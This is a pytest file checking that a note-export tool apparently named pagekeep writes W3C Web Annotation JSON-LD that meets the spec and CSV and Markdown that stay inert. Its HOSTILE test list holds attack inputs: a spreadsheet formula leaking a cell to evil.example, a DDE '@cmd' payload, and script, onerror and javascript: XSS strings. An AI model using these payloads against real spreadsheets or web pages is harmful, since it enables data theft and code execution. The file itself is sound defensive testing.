"""`pagekeep export-notes`: W3C Web Annotation JSON-LD that meets the Data Model's MUSTs (our
schema of them, tests/annotation_model_schema.py), and Markdown and CSV that stay inert whatever
the captured or typed text holds."""

from __future__ import annotations

import copy
import csv
import io
import json

import pytest
from markdown_it import MarkdownIt
from typer.testing import CliRunner

import annotation_model_schema as model
import archive_factory as factory
from annotations import export_notes, highlights, tags
from capture.cli import app

pytestmark = pytest.mark.timeout(60)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "click")',
    "+SUM(1,2)",
    "-2+3",
    "@cmd|' /C calc'!A0",
    "\t=1+1",
    "<script>alert(1)</script> <img src=x onerror=alert(2)>",
    "[click](javascript:alert(3)) ![img](http://evil.example/x.png) <http://evil.example/auto>",
    "http://evil.example/bare www.evil.example mail@evil.example",
    "# Heading\n- list item\n> quote\n```\ncode\n``` *em* __strong__ | a | b |",
]
PARAS = ["Ordinary opening paragraph about the harbour.",
         "Hostile passage: " + " ".join(h.replace("\n", " ") for h in HOSTILE),
         "Closing words, with the harbour again."]


def build_archive(path):
    """One article with hostile text, two highlights (one by quote, one by offsets), a quoted
    note, a screenshot region, and a plain note on another article."""
    archive = factory.build(path, 1)
    aid = factory.add_article(archive, 3, paragraphs=PARAS, title=HOSTILE[5] + " " + HOSTILE[0])
    factory.add_text_boxes(archive, aid, PARAS)
    highlights.add_highlight(archive, aid, quote="harbour", occurrence=2, note=HOSTILE[0], color="green",
                             author=HOSTILE[3])
    highlights.add_highlight(archive, aid, start=len(PARAS[0]) + 2, end=len(PARAS[0]) + 2 + len(PARAS[1]),
                             note="\n".join(HOSTILE))
    tags.add_note(archive, aid, HOSTILE[6], quote=HOSTILE[5])
    highlights.add_region(archive, aid, 10, 20, 300, 40, note=HOSTILE[1], color="purple")
    tags.add_note(archive, 1, "a note without a quote")
    archive.aid = aid
    return archive


@pytest.fixture
def db(tmp_path):
    archive = build_archive(tmp_path / "x.db")
    yield archive
    archive.conn.close()


def jsonld(db, **kw):
    return json.loads(export_notes.export(db, "jsonld", **kw))


@pytest.fixture(scope="module")
def exported(tmp_path_factory):
    """The JSON-LD export of the whole archive, and of its first highlight alone (read-only)."""
    archive = build_archive(tmp_path_factory.mktemp("export") / "x.db")
    out = {"collection": jsonld(archive), "highlight": jsonld(archive, article_id=archive.aid)["first"]["items"][0]}
    archive.conn.close()
    return out


def test_the_collection_meets_the_collection_and_page_musts(db):
    assert model.failures(jsonld(db), "AnnotationCollection") == []


def test_every_annotation_meets_the_annotation_musts_on_its_own(db):
    items = jsonld(db)["first"]["items"]
    assert {i["motivation"] for i in items} == {"commenting"} and len(items) == 5
    for item in items:
        assert model.failures(item) == [], item["id"]


def test_a_collection_links_its_page_both_ways(db):
    collection = jsonld(db)
    assert collection["last"] == collection["first"]["id"]
    assert collection["first"]["partOf"] == collection["id"]


def test_an_archive_without_notes_exports_an_empty_collection_without_pages(tmp_path):
    archive = factory.build(tmp_path / "empty.db", 1)
    collection = jsonld(archive)
    assert collection["total"] == 0 and "first" not in collection and "last" not in collection
    assert model.failures(collection, "AnnotationCollection") == []


def _selector(item, cls):
    return next(s for t in item["target"] for s in ([t["selector"]] if isinstance(t.get("selector"), dict)
                                                     else t.get("selector", [])) if s["type"] == cls)


BROKEN_ANNOTATIONS = {
    "no target": (lambda a: a.pop("target"), "(document)"),
    "@context not anno.jsonld": (lambda a: a.update({"@context": "http://www.w3.org/ns/oa.jsonld"}), "@context"),
    "@context, a lone value in an array": (lambda a: a.update({"@context": [model.ANNO_CONTEXT]}), "@context"),
    "id not an IRI": (lambda a: a.update({"id": "annotation 7"}), "id"),
    "type without Annotation": (lambda a: a.update({"type": ["Note"]}), "type"),
    "created not a date": (lambda a: a.update({"created": "last Tuesday"}), "created"),
    "created not in the calendar": (lambda a: a.update({"created": "2025-02-30T10:00:00Z"}), "created"),
    "created not in UTC": (lambda a: a.update({"created": "2025-03-01T10:00:00+01:00"}), "created"),
    "motivation not in the vocabulary": (lambda a: a.update({"motivation": "liking"}), "motivation"),
    "both body and bodyValue": (lambda a: a.update({"bodyValue": "again"}), "(document)"),
    "TextualBody without value": (lambda a: a["body"].pop("value"), "body"),
    "quote without exact": (lambda a: _selector(a, "TextQuoteSelector").pop("exact"), "target/0/selector/0"),
    "prefix not a string": (lambda a: _selector(a, "TextQuoteSelector").update({"prefix": ["a", "b"]}),
                            "target/0/selector/0/prefix"),
    "negative start": (lambda a: _selector(a, "TextPositionSelector").update({"start": -3}),
                       "target/0/selector/1/start"),
    "end not an integer": (lambda a: _selector(a, "TextPositionSelector").update({"end": "47"}),
                           "target/0/selector/1/end"),
    "two types on a selector": (lambda a: _selector(a, "TextPositionSelector").update(
        {"type": ["TextPositionSelector", "TextQuoteSelector"]}), "target/0/selector/1/type"),
    "fragment without value": (lambda a: _selector(a, "FragmentSelector").pop("value"), "target/1/selector"),
    "conformsTo not an IRI": (lambda a: _selector(a, "FragmentSelector").update({"conformsTo": "media frags"}),
                              "target/1/selector/conformsTo"),
    "sourceDate with sourceDateStart": (lambda a: a["target"][0]["state"].update(
        {"sourceDateStart": "2025-01-01T00:00:00Z", "sourceDateEnd": "2025-01-02T00:00:00Z"}),
        "target/0/state/sourceDateStart"),
    "specific resource without source": (lambda a: a["target"][1].pop("source"), "target/1"),
    "target an embedded text": (lambda a: a.update({"target": {"type": "TextualBody", "value": "x"}}), "target"),
}


@pytest.mark.parametrize("name", BROKEN_ANNOTATIONS)
def test_the_schema_fails_an_annotation_that_breaks_a_must(exported, name):
    item = copy.deepcopy(exported["highlight"])
    assert len(item["target"]) == 2 and model.failures(item) == []
    breaks, where = BROKEN_ANNOTATIONS[name]
    breaks(item)
    assert any(f.startswith(where + ":") for f in model.failures(item)), model.failures(item)


def test_the_schema_accepts_what_the_model_allows_beyond_pagekeeps_own_output(exported):
    item = copy.deepcopy(exported["highlight"])
    item.update({"@context": [model.ANNO_CONTEXT, {"schema": "http://schema.org/"}], "type": ["Annotation", "Note"],
                 "motivation": ["highlighting", "http://example.org/motivations/citing"]})
    item["target"][0]["source"] = "https://de.wikipedia.org/wiki/Hafen_(Übersicht)?q=Zürich"
    item["target"][0]["state"] = {"type": "TimeState", "sourceDateStart": "2025-03-01T00:00:00.25Z",
                                  "sourceDateEnd": "2025-03-02T00:00:00Z"}
    item["target"].append("https://example.org/page#para-2")
    assert model.failures(item) == []


BROKEN_COLLECTIONS = {
    "type not AnnotationCollection": (lambda c: c.update({"type": "Collection"}), "type"),
    "negative total": (lambda c: c.update({"total": -1}), "total"),
    "annotations but no first page": (lambda c: c.pop("first"), "(document)"),
    "a page without items": (lambda c: c["first"].update({"items": []}), "first/items"),
    "a page that is not the last, without next": (lambda c: c.update({"total": c["total"] + 10}), "first"),
    "a page item without target": (lambda c: c["first"]["items"][0].pop("target"), "first/items/0"),
    "partOf neither IRI nor object with id": (lambda c: c["first"].update({"partOf": {"label": "x"}}),
                                              "first/partOf"),
}


@pytest.mark.parametrize("name", BROKEN_COLLECTIONS)
def test_the_schema_fails_a_collection_that_breaks_a_must(exported, name):
    collection = copy.deepcopy(exported["collection"])
    breaks, where = BROKEN_COLLECTIONS[name]
    breaks(collection)
    failed = model.failures(collection, "AnnotationCollection")
    assert any(f.startswith(where + ":") for f in failed), failed


def test_a_highlight_targets_the_text_and_each_line_on_the_page_screenshot(db):
    item = jsonld(db, article_id=db.aid)["first"]["items"][0]
    text_target, *shot_targets = item["target"]
    quote, position = text_target["selector"]
    art = db.execute("select url, captured_at, text from articles where id = ?", [db.aid]).fetchone()
    assert text_target["source"] == art[0] and text_target["state"]["sourceDate"] == art[1]
    assert art[2][position["start"]:position["end"]] == quote["exact"] == "harbour"
    assert quote["prefix"].endswith("with the ") and quote["suffix"] == " again."
    assert len(shot_targets) == 1
    assert shot_targets[0]["source"]["id"].endswith(f"/-/pagekeep/pagekeep/shots/{db.aid}/page")
    assert shot_targets[0]["selector"]["value"].startswith("xywh=pixel:")


def test_csv_cells_that_would_run_as_formulas_are_escaped(db):
    out = export_notes.export(db, "csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    cells = [v for r in rows for k, v in r.items() if k not in ("id", "article_id", "pos_start", "pos_end")]
    assert cells, "the export has text cells"
    for cell in cells:
        assert not cell.lstrip().startswith(("=", "+", "-", "@")), cell
        assert not cell.startswith(("\t", "\r"))
    notes = {r["note"] for r in rows}
    assert "'" + HOSTILE[0] in notes  # kept whole, just made inert
    assert "'" + HOSTILE[1] in notes


def render_markdown(text: str) -> str:
    return MarkdownIt("gfm-like", {"linkify": True, "html": True}).render(text)


def test_markdown_of_hostile_text_renders_as_text_only(db):
    html = render_markdown(export_notes.export(db, "markdown"))
    for active in ("<a ", "<img", "<script", "<table", "<code", "<pre", "<em", "<strong", "<li", "<h3", "<h4"):
        assert active not in html, active
    assert html.count("<h1>") == 1 and html.count("<h2>") == 2
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "[click](javascript:alert(3))" in html and "http://evil.example/bare" in html


def test_the_markdown_check_does_catch_unescaped_text():
    html = render_markdown("\n\n".join(HOSTILE))
    assert "<a " in html and "<script" in html and "<img" in html


def test_cli_export_notes_writes_each_format_to_stdout(db, tmp_path):
    runner = CliRunner()
    for fmt, check in (("jsonld", lambda s: json.loads(s)["type"] == "AnnotationCollection"),
                       ("markdown", lambda s: s.startswith("# pagekeep annotations")),
                       ("csv", lambda s: s.startswith(",".join(export_notes.CSV_COLUMNS)))):
        result = runner.invoke(app, ["export-notes", "--format", fmt, "--db", str(tmp_path / "x.db")])
        assert result.exit_code == 0 and check(result.stdout), fmt
    one = runner.invoke(app, ["export-notes", "--article", "1", "--db", str(tmp_path / "x.db")])
    assert json.loads(one.stdout)["total"] == 1
